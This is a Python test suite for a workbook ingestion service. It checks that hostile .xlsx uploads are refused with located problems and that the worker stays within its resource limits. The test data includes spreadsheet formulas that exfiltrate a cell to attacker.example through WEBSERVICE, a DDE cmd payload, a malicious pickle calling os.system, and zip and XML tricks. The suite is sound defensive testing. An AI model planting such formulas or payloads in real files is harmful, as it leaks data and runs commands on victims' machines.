"""Hostile workbooks (issue 16): each is refused with a located problem, from the worker, from
ingest_bytes and from the CLI (exit 1), nothing is stored, and the worker stays within its limits."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from loaders import workbook as W
from loaders import worker
from loaders.ingest import ingest_bytes
from tests.hostile import HOSTILE, far_cell_in_template, rewrite_sheets
from tests.workbooks import good_workbook

ROOT = Path(__file__).resolve().parents[1]
TABLES = ["submission", "submission_event", "activity_report", "activity_spending",
          "priority_task_report", "indicator_value"]  # fmt: skip


def snapshot(con) -> dict[str, list]:
    return {t: con.execute(f"SELECT * FROM {t} ORDER BY ALL").fetchall() for t in TABLES}


@pytest.fixture(scope="module")
def template_bytes(tmp_path_factory) -> bytes:
    """A correctly filled DOIT template, built once for the module."""
    from greengrowth import store
    from greengrowth.catalog import load_catalog

    path = tmp_path_factory.mktemp("hostile") / "t.duckdb"
    with store.connect(path) as con:
        store.load_catalog(con, load_catalog("binh-duong-2018-2020"))
        return good_workbook(con)


def hostile_cases(template: bytes) -> dict[str, tuple[bytes, str]]:
    cases = {name: (build(), code) for name, (build, code) in HOSTILE.items()}
    cases["wide-grid-in-template"] = (far_cell_in_template(template, "GR10000"), "too_many_columns")
    cases["tall-grid-in-template"] = (far_cell_in_template(template, "B40000"), "too_many_rows")
    cases["grid-area-in-template"] = (far_cell_in_template(template, "BL7000"), "grid_too_large")
    cases["grid-over-sheets-in-template"] = (far_cell_in_template(template, "T5000"),
                                             "grid_too_large")  # fmt: skip
    return cases


CASE_NAMES = [*HOSTILE, "wide-grid-in-template", "tall-grid-in-template", "grid-area-in-template",
              "grid-over-sheets-in-template"]  # fmt: skip


def within_limits(result: worker.WorkerResult) -> None:
    """The worker reported its own cost, and the cost is under the documented limits."""
    assert result.peak_address_space_bytes is not None and result.cpu_seconds is not None
    assert result.peak_address_space_bytes < worker.MEMORY_LIMIT_BYTES
    assert result.cpu_seconds < worker.CPU_LIMIT_SECONDS
    assert result.wall_seconds < worker.WALL_LIMIT_SECONDS


@pytest.mark.parametrize("name", CASE_NAMES)
def test_the_worker_refuses_each_hostile_file_within_its_limits(template_bytes, name):
    data, code = hostile_cases(template_bytes)[name]
    assert len(data) < 200_000  # each is a small file: the cost is in what it claims
    result = worker.read(data, f"{name}.xlsx")
    assert result.raw is None and result.how == "refused"
    assert [p.code for p in result.problems] == [code]
    found = result.problems[0]
    assert found.sheet and found.message_vi and found.message_en and found.hint_vi
    within_limits(result)


@pytest.mark.parametrize("name", CASE_NAMES)
def test_ingest_refuses_each_hostile_file_and_stores_nothing(catalog_con, template_bytes, name):
    data, code = hostile_cases(template_bytes)[name]
    before = snapshot(catalog_con)
    result = ingest_bytes(catalog_con, data, f"{name}.xlsx", "t")
    assert result.outcome == "rejected"
    assert [p.code for p in result.problems] == [code]
    assert snapshot(catalog_con) == before


def test_the_cli_refuses_every_hostile_file_with_exit_1(tmp_path, template_bytes):
    files = []
    for name, (data, _code) in hostile_cases(template_bytes).items():
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(data)
        files.append(str(path))
    db = tmp_path / "cli.duckdb"
    env = {**os.environ, "GG_DB": str(db), "GG_FILES": str(tmp_path / "files")}
    done = subprocess.run([sys.executable, "-m", "loaders", "ingest", *files], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=600)  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    assert done.stdout.count("bị từ chối") == len(files)  # each file named and refused
    from greengrowth import store

    with store.connect(db) as con:
        assert con.execute("SELECT count(*) FROM submission").fetchone()[0] == 0
    assert not (tmp_path / "files").exists() or not any((tmp_path / "files").rglob("*"))


# --- the honest cases keep passing ---------------------------------------------------------------


def ten_thousand_rows(template: bytes) -> bytes:
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(template))
    ws = wb["Chỉ tiêu"]
    for i in range(10_000):
        for col, value in enumerate(("energy_audits", "x", "cơ sở", "Dĩ An", 2010 + i % 10, i,
                                     f"ghi chú {i}"), start=1):  # fmt: skip
            ws.cell(2 + i, col, value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_a_10000_row_template_is_read_with_room_to_spare(template_bytes):
    data = ten_thousand_rows(template_bytes)
    assert len(data) < W.MAX_UPLOAD_BYTES / 2
    result = worker.read(data, "rows.xlsx")
    assert result.how == "ok", result.problems
    assert len(result.raw.sheets["Chỉ tiêu"]) == 10_001
    within_limits(result)
    assert result.peak_address_space_bytes < worker.MEMORY_LIMIT_BYTES / 3
    assert result.cpu_seconds < worker.CPU_LIMIT_SECONDS / 3


@pytest.mark.skipif(not Path("/usr/bin/soffice").exists(), reason="make test installs LibreOffice")
def test_a_template_resaved_by_libreoffice_is_read(template_bytes, tmp_path):
    source = tmp_path / "in" / "lo.xlsx"
    source.parent.mkdir()
    source.write_bytes(template_bytes)
    out = tmp_path / "out"
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(source)],
        capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    resaved = out / "lo.xlsx"
    assert resaved.exists(), done.stdout + done.stderr
    assert resaved.read_bytes() != template_bytes
    result = worker.read(resaved.read_bytes(), "lo.xlsx")
    assert result.how == "ok", result.problems
    original = worker.read(template_bytes, "t.xlsx").raw
    assert set(result.raw.sheets) == set(original.sheets)
    within_limits(result)


def test_far_cells_in_a_sheet_the_template_does_not_read_are_ignored(template_bytes):
    def edit(part: str, xml: bytes) -> bytes:  # sheet1 is "Hướng dẫn", the guide
        if part != "xl/worksheets/sheet1.xml":
            return xml
        extra = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return xml.replace(b"</sheetData>", extra + b"</sheetData>")

    data = rewrite_sheets(template_bytes, edit)
    result = worker.read(data, "guide.xlsx")
    assert result.how == "ok", result.problems


# --- what the reader throws, and the limits themselves ---------------------------------------------


def test_a_reader_panic_becomes_a_refusal_in_process():
    """calamine panics (a BaseException) on XFD1048576; guarded() turns it into a refusal."""
    import io

    from python_calamine import CalamineWorkbook

    data = HOSTILE["XFD1048576"][0]()

    def read():
        wb = CalamineWorkbook.from_filelike(io.BytesIO(data))
        return wb.get_sheet_by_name(wb.sheet_names[0]).to_python(skip_empty_area=False)

    with pytest.raises(W.Refused) as refused:
        W.guarded(read)
    assert refused.value.problems[0].code == "too_complex"


@pytest.mark.parametrize("exc", [KeyboardInterrupt, SystemExit])
def test_interrupts_still_stop_the_program(exc):
    def stop():
        raise exc

    with pytest.raises(exc):
        W.guarded(stop)


def test_running_out_of_memory_is_a_refusal_that_names_the_file(template_bytes, monkeypatch):
    monkeypatch.setattr(worker, "MEMORY_LIMIT_BYTES", 30 * 1024 * 1024)
    result = worker.read(ten_thousand_rows(template_bytes), "lớn.xlsx")
    assert result.how in {"memory", "crash"} and result.raw is None
    [found] = result.problems
    assert found.code == "too_complex"
    assert "'lớn.xlsx'" in found.message_vi and "'lớn.xlsx'" in found.message_en
    assert "quá phức tạp để đọc an toàn" in found.message_vi


def test_the_wall_clock_timeout_kills_the_reader(template_bytes, monkeypatch):
    monkeypatch.setattr(worker, "WALL_LIMIT_SECONDS", 0.01)
    result = worker.read(ten_thousand_rows(template_bytes), "slow.xlsx")
    assert result.how == "timeout"
    assert [p.code for p in result.problems] == ["too_complex"]


def test_the_cpu_limit_kills_a_busy_child():
    code = textwrap.dedent("""
        from loaders.worker import _limit_self
        _limit_self(512 * 1024 * 1024, 1)
        while True:
            pass
    """)
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, timeout=60)
    assert done.returncode in (-signal.SIGXCPU, -signal.SIGKILL)


def test_an_answer_that_is_not_plain_data_is_refused():
    import io
    import pickle

    evil = pickle.dumps(("ok", os.system, [], 0.0, 0, 0))
    with pytest.raises(pickle.UnpicklingError):
        worker._AllowListUnpickler(io.BytesIO(evil)).load()


# --- formulas that reach outside ----------------------------------------------------------------------


def _with_formula(con, sheet: str, cell: str, formula: str) -> bytes:
    def edit(wb):
        wb[sheet][cell] = formula

    return good_workbook(con, edit=edit)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://attacker.example/?"&A1)',
        '=_xlfn.WEBSERVICE("http://x.example")',
        "=cmd|'/c calc'!A0",
        "=[1]Sheet1!A1",
        "='C:\\Users\\x\\[book.xlsx]Sheet1'!A1",
        '=HYPERLINK("http://x.example","bấm")',
        '=RTD("prog.id",,"x")',
        '=_xlfn._xlws.WEBSERVICE("http://x.example")',
        '=_xlfn.IMAGE("http://x.example/a.png")',
    ],
    ids=[
        "webservice",
        "xlfn-webservice",
        "dde",
        "external-ref",
        "path-ref",
        "hyperlink",
        "rtd",
        "double-prefix",
        "image",
    ],  # fmt: skip
)
def test_a_formula_reaching_outside_is_named(catalog_con, formula):
    before = snapshot(catalog_con)
    result = ingest_bytes(catalog_con, _with_formula(catalog_con, "Hoạt động", "E3", formula),
                          "f.xlsx", "t")  # fmt: skip
    assert result.outcome == "rejected"
    assert [(p.code, p.sheet, p.row, p.column) for p in result.problems] == [
        ("external_formula", "Hoạt động", 3, "E")]  # fmt: skip
    assert snapshot(catalog_con) == before


def test_a_formula_reaching_outside_on_the_guide_sheet_is_named_too(catalog_con):
    data = _with_formula(catalog_con, "Hướng dẫn", "B2", '=WEBSERVICE("http://x.example")')
    result = ingest_bytes(catalog_con, data, "f.xlsx", "t", dry_run=True)
    assert [(p.code, p.sheet, p.row) for p in result.problems] == [
        ("external_formula", "Hướng dẫn", 2)]  # fmt: skip


@pytest.mark.parametrize("formula", ["=1+2", '=IF(C3="Hoàn thành","xong","[chưa] a|b")',
                                     "=SUM('Chỉ tiêu'!F2:F9)", "=Table1[Col]"])  # fmt: skip
def test_formulas_computing_inside_the_workbook_are_fine(catalog_con, formula):
    data = _with_formula(catalog_con, "Hoạt động", "E3", formula)
    result = ingest_bytes(catalog_con, data, "f.xlsx", "t", dry_run=True)
    assert result.outcome == "would_accept", result.problems


def test_a_link_to_another_workbook_is_named(template_bytes):
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template_bytes)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    result = worker.read(out.getvalue(), "link.xlsx")
    assert [p.code for p in result.problems] == ["external_link"]


def test_a_doctype_is_refused(template_bytes):
    def edit(part: str, xml: bytes) -> bytes:
        if part != "xl/worksheets/sheet5.xml":
            return xml
        dtd = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
        assert not xml.startswith(b"<?xml")  # openpyxl writes no declaration
        return dtd + xml

    result = worker.read(rewrite_sheets(template_bytes, edit), "dtd.xlsx")
    assert [p.code for p in result.problems] == ["not_xlsx"]


# --- the checker reads the same sheet the reader reads ---------------------------------------------


def _text_cell(text: str) -> bytes:
    from tests.hostile import sheet_xml

    return sheet_xml(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>')


@pytest.mark.parametrize(
    "target",
    ["worksheets/sheet1.xml", "/xl/worksheets/sheet1.xml", "xl/worksheets/sheet1.xml",
     "/worksheets/sheet1.xml", "worksheets/SHEET1.xml", "../xl/worksheets/sheet1.xml",
     "./worksheets/sheet1.xml", "worksheets\\sheet1.xml"],
)  # fmt: skip
def test_the_checker_and_the_reader_resolve_a_sheet_to_the_same_part(target):
    """Each candidate part holds its own name; what calamine reads must be what we scanned."""
    import io
    import zipfile

    from python_calamine import CalamineWorkbook

    from tests.hostile import minimal

    candidates = ["xl/worksheets/sheet1.xml", "xl/xl/worksheets/sheet1.xml",
                  "worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"]  # fmt: skip
    data = minimal(b"", target=target, parts={p: _text_cell(p) for p in candidates})
    try:
        wb = CalamineWorkbook.from_filelike(io.BytesIO(data))
        read = wb.get_sheet_by_name("Chỉ tiêu").to_python()[0][0]
    except Exception:
        read = None
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        ours = W._sheet_parts(zf).sheets["Chỉ tiêu"]
    if read is not None:
        assert ours == read
    if ours is None:  # we could not place it: refused, never read unchecked
        assert worker.read(data, "t.xlsx").problems[0].code == "not_xlsx"


def test_zip_members_differing_only_in_case_are_refused():
    """calamine matches member names ignoring case, so two such members could hide one sheet."""
    from tests.hostile import minimal

    parts = {"xl/worksheets/sheet1.xml": _text_cell("benign"),
             "xl/worksheets/Sheet1.xml": HOSTILE_SHEET}  # fmt: skip
    result = worker.read(minimal(b"", parts=parts), "case.xlsx")
    assert [p.code for p in result.problems] == ["not_xlsx"]


HOSTILE_SHEET = b'<worksheet><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'


def test_two_sheets_with_one_name_are_refused():
    import io
    import zipfile

    from tests.hostile import minimal

    data = minimal('<row r="1"><c r="A1"><v>1</v></c></row>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == "xl/workbook.xml":
                body = body.replace(b"</sheets>",
                                    '<sheet name="CHỈ TIÊU" sheetId="2" r:id="rId1"/></sheets>'.encode())  # fmt: skip
            dst.writestr(item, body)
    result = worker.read(out.getvalue(), "dup.xlsx")
    assert [p.code for p in result.problems] == ["not_xlsx"]


def test_a_conditional_format_formula_reaching_outside_is_named(template_bytes):
    """Excel evaluates conditional-format formulas on opening the file, so they count too."""

    def edit(part: str, xml: bytes) -> bytes:
        if part != "xl/worksheets/sheet3.xml":  # "Hoạt động"
            return xml
        rule = (b'<conditionalFormatting sqref="C2"><cfRule type="expression" priority="1">'
                b'<formula>LEN(WEBSERVICE("http://x.example"))&gt;0</formula></cfRule>'
                b"</conditionalFormatting>")  # fmt: skip
        return xml.replace(b"</sheetData>", b"</sheetData>" + rule, 1)

    result = worker.read(rewrite_sheets(template_bytes, edit), "cf.xlsx")
    assert [(p.code, p.sheet) for p in result.problems] == [("external_formula", "Hoạt động")]


def test_no_process_to_be_had_is_a_refusal(monkeypatch):
    def fail(self):
        raise OSError("Resource temporarily unavailable")

    monkeypatch.setattr(worker._Pool, "_take", fail)
    result = worker.read(b"PK", "x.xlsx")
    assert [p.code for p in result.problems] == ["too_complex"]


def test_an_empty_formatted_row_far_down_costs_nothing_and_passes(template_bytes):
    """Writers keep formatted rows without cells; the reader ignores them, so the bounds do too."""

    def edit(part: str, xml: bytes) -> bytes:
        extra = b'<row r="1048576" customFormat="1" s="0" ht="15" customHeight="1"/>'
        return xml.replace(b"</sheetData>", extra + b"</sheetData>", 1)

    result = worker.read(rewrite_sheets(template_bytes, edit), "rows.xlsx")
    assert result.how == "ok", result.problems


@pytest.mark.parametrize(
    ("name", "where"),
    [("single-quotes-GR1048576", (1048576, "GR")), ("spaces-around-equals", (200000, "GR")),
     ("cells-without-address", (1, "BM")), ("cells-at-A1", (1, "A"))],
)  # fmt: skip
def test_the_refusal_names_the_sheet_and_the_cell(name, where):
    [found] = worker.read(HOSTILE[name][0](), "x.xlsx").problems
    assert (found.sheet, found.row, found.column) == ("Chỉ tiêu", *where)
